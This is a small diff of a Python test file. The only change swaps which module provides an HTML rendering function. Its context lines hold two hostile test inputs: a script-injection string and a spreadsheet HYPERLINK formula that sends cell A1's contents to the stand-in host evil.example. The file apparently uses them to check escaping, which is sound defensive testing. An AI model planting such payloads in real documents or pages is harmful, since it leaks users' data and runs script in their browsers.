@@ -15,7 +15,7 @@ from conftest import workbench
 from analysis import escape
 from analysis.batch import runlist as batch_runlist
 from analysis.errors import WorkbenchError
-from analysis.report import render
+from analysis.render import document as render
 
 SCRIPT = "</style><script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
